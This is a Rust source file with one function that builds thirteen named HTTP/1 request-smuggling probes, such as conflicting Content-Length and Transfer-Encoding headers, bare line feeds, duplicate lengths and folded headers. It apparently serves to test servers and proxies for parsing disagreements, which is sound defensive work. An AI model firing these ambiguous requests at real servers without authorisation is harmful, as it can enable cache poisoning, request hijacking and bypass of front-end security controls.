//! HTTP/1 requests whose heads two programs can read differently (request smuggling).

/// Returns such requests for this path, each with a name. Behind each one follows an unambiguous request that asks to
/// close the connection.
#[must_use]
pub fn ambiguous_heads(host: &str, path: &str) -> Vec<(&'static str, String)> {
    let next = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    let get = |rest: &str| format!("GET {path} HTTP/1.1{}{next}", rest.replace("HOST", host));
    let post = |headers: &str, body: &str| {
        format!("POST {path} HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n{body}{next}")
    };
    vec![
        ("LF after the request line", get("\nHost: HOST\r\n\r\n")),
        ("LF after a header", get("\r\nHost: HOST\nX: y\r\n\r\n")),
        ("LF alone ends the head", get("\r\nHost: HOST\r\n\n")),
        ("LF everywhere", get("\nHost: HOST\n\n")),
        ("a length and chunks", post("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n")),
        ("chunks and a length", post("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", "0\r\n\r\n")),
        ("the same length twice", post("Content-Length: 2\r\nContent-Length: 2\r\n", "{}")),
        ("a list of lengths", post("Content-Length: 2, 2\r\n", "{}")),
        ("chunks twice", post("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n")),
        ("another encoding before chunks", post("Transfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n")),
        ("a header on two lines", get("\r\nHost: HOST\r\nX: y\r\n z\r\n\r\n")),
        ("whitespace before a colon", post("Content-Length : 2\r\n", "{}")),
        ("CR within a header", get("\r\nHost: HOST\r\nX: y\rZ: z\r\n\r\n")),
    ]
}
